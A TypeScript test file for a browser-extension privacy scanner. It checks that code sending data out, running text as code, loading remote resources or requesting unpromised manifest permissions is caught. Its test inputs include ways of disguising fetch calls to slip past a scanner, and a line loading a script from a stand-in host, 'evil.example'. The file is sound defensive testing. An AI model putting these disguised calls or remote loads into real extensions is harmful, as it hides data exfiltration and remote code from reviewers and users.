import { describe, expect, test } from 'vitest';
import type { ManifestPromise } from '../../../src/cli/manifest-promise.ts';
import { scanPackage, staleAllowances } from '../../../src/cli/privacy-scan.ts';

const PROMISE: ManifestPromise = {
  permissions: ['storage'],
  optionalPermissions: [],
  hostPermissions: ['https://chat.example/*'],
  optionalHostPermissions: [],
  csp: "default-src 'self'; connect-src 'none'",
};

const MANIFEST = {
  manifest_version: 3,
  permissions: ['storage'],
  host_permissions: ['https://chat.example/*'],
  content_security_policy: { extension_pages: "connect-src 'none'; default-src 'self'" },
};

const packageOf = (files: Record<string, string>, manifest: object = MANIFEST) =>
  new Map(
    Object.entries({ ...files, 'manifest.json': JSON.stringify(manifest) }).map(
      ([path, text]) => [path, new TextEncoder().encode(text)] as const,
    ),
  );

function faultsOf(files: Record<string, string>, manifest: object = MANIFEST): string[] {
  return scanPackage(packageOf(files, manifest), PROMISE, []).faults;
}

describe('a script that could send, or run text, is caught', () => {
  test.each([
    ['network', 'fetch("/x")'],
    ['network', 'window.fetch("/x")'],
    ['network', 'globalThis["fetch"]("/x")'],
    ['network', 'self[`fetch`]("/x")'],
    ['network', 'const {fetch:f}=window;f("/x")'],
    ['network', 'const send=fetch;send("/x")'],
    ['network', 'a?.b?.fetch?.("/x")'],
    ['network', 'new XMLHttpRequest'],
    ['network', 'navigator.sendBeacon("/x","y")'],
    ['network', 'new WebSocket("wss://chat.example")'],
    ['network', 'new EventSource("/x")'],
    ['network', 'new WebTransport("/x")'],
    ['network', 'new RTCPeerConnection({})'],
    ['network', 'importScripts("x.js")'],
    ['network', 'new Image().src="/x?"+text'],
    ['dynamic import', 'import("https://cdn.example/x.js")'],
    ['dynamic import', 'import(address)'],
    ['remote address', 'import x from "https://cdn.example/x.js"'],
    ['text as code', 'eval("1")'],
    ['text as code', 'new Function("return 1")()'],
    ['text as code', 'Function("return 1")()'],
    ['text as code', 'window.Function("return 1")()'],
    ['text as markup', 'el.innerHTML=text'],
    ['text as markup', 'el["outerHTML"]=text'],
    ['text as markup', 'el.insertAdjacentHTML("beforeend",text)'],
    ['text as markup', 'document.write(text)'],
    ['text as markup', 'el.ownerDocument.document.writeln(text)'],
    ['storage.sync', 'chrome.storage.sync.set({a:1})'],
    ['storage.sync', 'browser["storage"]["sync"].get()'],
  ])('%s: %s', (rule, code) => {
    const faults = faultsOf({ 'watch.js': code });
    expect(faults).toContainEqual(expect.stringContaining(`watch.js: ${rule}: `));
  });
});

test.each([
  'const words=["fetch","eval","innerHTML"];',
  'const settings={fetch:1,sync:2};settings.sync;',
  'class Box{fetch(){return 1}}',
  'const link="https://fernhollow.example/complaints";',
  'import("./card.js")',
  'clock.sync();chrome.storage.local.get()',
])('harmless code passes: %s', (code) => {
  expect(faultsOf({ 'watch.js': code })).toEqual([]);
});

describe('a page or style sheet that loads from elsewhere is caught', () => {
  test.each([
    ['a.html', '<!doctype html><script src="https://cdn.example/x.js"></script>'],
    ['a.html', '<!doctype html><script src=//cdn.example/x.js></script>'],
    ['a.html', '<!doctype html><link rel="stylesheet" href="https://fonts.example/x.css">'],
    ['a.html', '<!doctype html><img alt="" src="https://pixel.example/x.gif">'],
    ['a.html', '<!doctype html><script>run()</script>'],
    ['a.html', '<!doctype html><button onclick="run()">Go</button>'],
    ['a.css', '@import "https://fonts.example/x.css";'],
    ['a.css', 'b{background:url(//pixel.example/x.gif)}'],
    ['a.wasm', 'x'],
  ])('%s: %s', (path, text) => {
    expect(faultsOf({ [path]: text })).toHaveLength(1);
  });

  test('local files, links to press and data images pass', () => {
    expect(
      faultsOf({
        'a.html':
          '<!doctype html><script type="module" src="/a.js"></script><a href="https://fernhollow.example">School</a>',
        'a.css':
          'b{background:url("data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'/>")}',
      }),
    ).toEqual([]);
  });
});

describe('a manifest that says more, or less, than was promised is caught', () => {
  test.each([
    ['permissions: "tabs"', { permissions: ['storage', 'tabs'] }],
    ['permissions: "storage"', { permissions: [] }],
    ['optional permissions: "history"', { optional_permissions: ['history'] }],
    [
      'host permissions: "<all_urls>"',
      { host_permissions: ['https://chat.example/*', '<all_urls>'] },
    ],
    ['host permissions: "*://*/*"', { permissions: ['storage', '*://*/*'] }],
    ['optional host permissions', { optional_host_permissions: ['https://*/*'] }],
    ['content_scripts', { content_scripts: [{ matches: ['https://chat.example/*'] }] }],
    [
      'content_security_policy',
      { content_security_policy: { extension_pages: "default-src 'self'" } },
    ],
    ['content_security_policy', { content_security_policy: undefined }],
    ['web_accessible_resources', { web_accessible_resources: [{ resources: ['a.css'] }] }],
    ['externally_connectable', { externally_connectable: { ids: ['*'] } }],
  ])('%s', (place, change) => {
    const faults = faultsOf({}, { ...MANIFEST, ...change });
    expect(faults).toContainEqual(expect.stringContaining(`manifest.json: ${place}`));
  });

  test('the promised one passes, whatever the order of its directives', () => {
    expect(faultsOf({})).toEqual([]);
  });
});

describe('an allowance', () => {
  const own = {
    file: 'chunks/*.js',
    rule: 'network',
    code: /^fetch\(\w+\.runtime\.getURL\(/,
    reason: 'reads a file of the package',
  };
  const scan = (path: string, code: string) =>
    scanPackage(packageOf({ [path]: code }), PROMISE, [own]);

  test('lets its own file and code pass, and counts as used', () => {
    const result = scan('chunks/desk.js', 'fetch(t.runtime.getURL(e))');
    expect(result.faults).toEqual([]);
    expect(staleAllowances([result], [own])).toEqual([]);
  });

  test.each([
    ['watch.js', 'fetch(t.runtime.getURL(e))'],
    ['chunks/desk.js', 'fetch(e)'],
    ['chunks/desk.js', 'fetch(e,t.runtime.getURL(e))'],
    ['chunks/desk.js', 't.runtime.getURL(e);let f=fetch;f(e)'],
  ])('covers neither another file nor other code: %s: %s', (path, code) => {
    expect(scan(path, code).faults).toHaveLength(1);
  });

  test('that nothing needs any more is a fault', () => {
    expect(staleAllowances([scan('watch.js', '1;')], [own])).toEqual([
      expect.stringContaining('stale allowance: chunks/*.js'),
    ]);
  });
});

describe('the background may load its pack, and nothing else', () => {
  const faults = (path: string, code: string) =>
    scanPackage(packageOf({ [path]: code }), PROMISE).faults;

  test('by its own name', () => {
    expect(faults('background.js', 'try{importScripts(`/pack.js`)}catch{}')).toEqual([]);
  });

  test.each([
    ['background.js', 'importScripts("https://evil.example/pack.js")'],
    ['background.js', 'importScripts(`/pack.js`,name)'],
    ['background.js', 'let load=importScripts;load(`/pack.js`)'],
    ['watch.js', 'importScripts(`/pack.js`)'],
  ])('%s: %s', (path, code) => {
    expect(faults(path, code)).toHaveLength(1);
  });
});
